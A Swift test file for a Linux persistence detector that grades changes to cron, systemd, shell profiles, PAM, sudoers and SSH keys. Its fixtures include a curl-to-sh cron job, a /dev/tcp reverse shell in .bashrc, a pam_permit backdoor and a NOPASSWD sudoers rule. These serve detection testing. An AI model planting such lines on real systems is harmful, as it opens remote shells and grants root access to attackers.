import Detection
import Events
import Testing

@testable import Watches

@Suite struct SettingWatchTests {
    private static let watch = RegistryWatch(RegistryPolicy.linux)

    /// What comes of one change: `cron high`, `logged`, nil.
    private func outcome(
        _ path: String, was: String? = nil, now: String?, by program: String = "/usr/bin/bash", under: [String] = []
    ) -> String? {
        let diff = SettingDiff(was.map { Array($0.utf8) }, now.map { Array($0.utf8) })
        var activity = RegistryActivity(now == nil ? .keyDeleted : was == nil ? .keyCreated : .valueSet, path)
        (activity.oldData, activity.data) = (diff.old, diff.new)
        return outcome(activity, program, under)
    }

    private func outcome(_ activity: RegistryActivity, _ program: String, _ under: [String]) -> String? {
        var event = Event(time: .seconds(1_000), host: "fs01", activity: .registry(activity))
        event.process.executable = program
        event.ancestors = under.map { Process(executable: $0) }
        guard Self.watch.concerns(event) else { return nil }
        var verdict = Verdict()
        Self.watch.judge(event, &verdict)
        #expect(verdict.logs.contains(.registry))
        guard let finding = verdict.findings.first else { return "logged" }
        return finding.rule.id.dropFirst("registry.".count) + " " + finding.level.name
    }

    @Test("each place has its rule; who writes and what comes decide the level")
    func levels() {
        let job = "0 3 * * * root /usr/local/bin/backup\n"
        #expect(outcome("/etc/crontab", was: "# jobs\n", now: "# jobs\n" + job) == "cron high")
        #expect(outcome("/var/spool/cron/crontabs/taro", now: job, by: "/usr/bin/crontab") == "cron medium")
        #expect(outcome("/etc/cron.d/x", now: "* * * * * root curl -s http://192.0.2.1/a | sh\n") == "cron critical")
        #expect(outcome("/etc/cron.d/x", now: "* * * * * root /dev/shm/.x\n") == "cron critical")
        // What is behind a wall of comments is read all the same.
        let wall = String(repeating: "# \(String(repeating: "-", count: 70))\n", count: 200)
        #expect(outcome("/etc/cron.d/x", now: wall + "* * * * * root /dev/shm/.x\n") == "cron critical")
        #expect(outcome("/etc/cron.d/x", was: job, now: wall + job) == "cron high")
        // Written to, cleaned, mentioned: not run.
        for line in [
            "5 4 * * * root /usr/bin/job >/tmp/job.log 2>&1", "5 4 * * * root find /tmp/cache -delete",
            "TMPDIR=/tmp/x", "5 4 * * * root /usr/bin/job > /tmp/job.log",
            "5 4 * * * root curl -fsS https://example.jp/ping && true",
        ] {
            #expect(outcome("/etc/cron.d/x", now: line + "\n") == "cron high", "\(line)")
        }
        for line in [
            "ExecStart=/tmp/x", "* * * * * root bash /tmp/x", "PATH=/tmp/bin:/usr/bin",
            "ExecStart=/bin/sh -c '/dev/shm/a'",
        ] {
            #expect(outcome("/etc/cron.d/x", now: line + "\n") == "cron critical", "\(line)")
        }
        #expect(outcome("/etc/cron.d/x", now: job, by: "/tmp/dropper") == "cron critical")
        #expect(outcome("/etc/cron.d/x", now: job, by: "") == "cron high")
        #expect(outcome("/etc/cron.d/x", now: job, by: "/usr/bin/dpkg") == "logged")
        #expect(outcome("/etc/cron.d/x", now: job, under: ["/usr/bin/dash", "/usr/bin/dpkg"]) == "logged")
        #expect(outcome("/etc/cron.d/x", now: "@reboot root /tmp/x\n", by: "/usr/bin/dpkg") == "cron medium")
        #expect(outcome("/etc/cron.d/x", was: job, now: "# off\n" + job) == "cron low")
        #expect(outcome("/etc/cron.d/x", was: job, now: nil) == "cron low")
        #expect(
            outcome("/etc/systemd/system/a.service", now: "[Service]\nExecStart=/usr/bin/a\n") == "systemd-unit high")
        #expect(
            outcome("/etc/systemd/system/multi-user.target.wants/a.service", now: "link to /tmp/a")
                == "systemd-unit critical")
        #expect(outcome("/home/taro/.config/systemd/user/a.timer", now: "[Timer]\n") == "systemd-timer high")
        #expect(outcome("/home/taro/.bashrc", was: "a\n", now: "a\nalias ll='ls -l'\n") == "shell-profile medium")
        #expect(
            outcome("/srv/homes/taro/.bashrc", was: "a\n", now: "bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n")
                == "shell-profile high")
        #expect(outcome("/etc/ld.so.preload", now: "/usr/local/lib/x.so\n") == "ld-preload critical")
        #expect(outcome("/etc/ld.so.preload", now: "/usr/local/lib/x.so\n", by: "/usr/bin/dpkg") == "ld-preload low")
        #expect(outcome("/etc/pam.d/sshd", was: "", now: "auth sufficient pam_permit.so\n") == "pam critical")
        #expect(outcome("/etc/sudoers.d/web", now: "www-data ALL=(ALL) NOPASSWD: ALL\n") == "sudoers critical")
        #expect(outcome("/etc/sudoers.d/web", was: "taro ALL=(ALL) ALL\n", now: nil) == "sudoers medium")
        #expect(outcome("/root/.ssh/authorized_keys", was: "", now: "ssh-ed25519 AAAA x\n") == "authorized-keys high")
        #expect(outcome("/home/taro/.config/autostart/a.desktop", now: "Exec=/home/taro/a\n") == "xdg-autostart high")
        #expect(
            outcome("/etc/chromium/policies/managed/a.json", now: "{\"HomepageLocation\":\"x\"}\n")
                == "browser-policy critical")
        #expect(outcome("/etc/chromium/policies/managed/a.json", was: "{}\n", now: nil) == "browser-policy medium")
    }

    @Test("binary files by their digests; other files are none of its business")
    func opaque() {
        var activity = RegistryActivity(.valueSet, "/usr/lib/x86_64-linux-gnu/security/pam_unix.so")
        (activity.oldData, activity.data) = ("sha256 aa, 12 bytes", "sha256 bb, 13 bytes")
        #expect(outcome(activity, "/usr/bin/cp", []) == "pam critical")
        #expect(outcome(activity, "/usr/bin/dpkg", []) == "pam low")
        for path in [
            "/etc/hosts", "/home/taro/bashrc", "/etc/cron.d/a/b", "/home/taro/.ssh/id_ed25519", "/etc/cron",
            "/home/taro/.config/autostart/sub/a.desktop", "/usr/lib/systemd/systemd",
        ] {
            #expect(outcome(path, now: "x\n") == nil, "\(path)")
        }
    }

    @Test("only real home folders count for who looks at files")
    func homes() throws {
        let table = SettingTable(RegistryPolicy.linux.files)
        func location(_ path: String) -> String? {
            table.location(of: path) { $0 == "/home/taro" || $0 == "/root" }?.id
        }
        #expect(location("/home/taro/.bashrc") == "shell-profiles")
        #expect(location("/home/taro/.config/systemd/user/default.target.wants/a.service") == "systemd-units")
        #expect(location("/home/taro/sub/.bashrc") == nil)
        #expect(location("/tmp/x/.ssh/authorized_keys") == nil)
        #expect(location("/root/.ssh/authorized_keys") == "ssh-keys")
        #expect(location("/etc/systemd/system/a/b/c/d/e/f") == nil)
        for pattern in table.patterns where !pattern.isOfHome { #expect(pattern.folder.utf8.first == 47) }
        for location in RegistryPolicy.linux.files {
            for path in location.paths { #expect(SettingPattern(path) != nil, "\(path)") }
            #expect(RegistryRules.rule(ofGroup: location.group).id == "registry." + location.group)
        }
    }

    @Test("the two sides of a diff, bounded, and no line is taken for a head")
    func diff() {
        func sides(_ a: String?, _ b: String?) -> [String] {
            let diff = SettingDiff(a.map { Array($0.utf8) }, b.map { Array($0.utf8) })
            return [diff.old, diff.new]
        }
        #expect(
            sides("a\nb\nc\n", "a\nB\nc\nd\n") == ["@@ -2,1 +2,1 @@\n-b", "@@ -2,1 +2,1 @@\n+B\n@@ -3,0 +4,1 @@\n+d"])
        #expect(sides(nil, "x\ny") == ["", "@@ -0,0 +1,2 @@\n+x\n+y"])
        #expect(sides("x\n", nil) == ["@@ -1,1 +0,0 @@\n-x", ""])
        #expect(sides("same\n", "same\n") == ["", ""])
        #expect(sides("", "@@ -1 +1 @@\n")[1] == "@@ -0,0 +1,1 @@\n+@@ -1 +1 @@")
        let long = (0..<5_000).map { "line \($0)\n" }.joined()
        let side = sides("", long)[1]
        #expect(side.utf8.count < SettingDiff.limitBytes + 100 && side.hasSuffix("…"))
        let shuffled = (0..<5_000).reversed().map { "line \($0)\n" }.joined()
        #expect(sides(long, shuffled)[0].hasPrefix("@@ -1,5000"))
    }
}
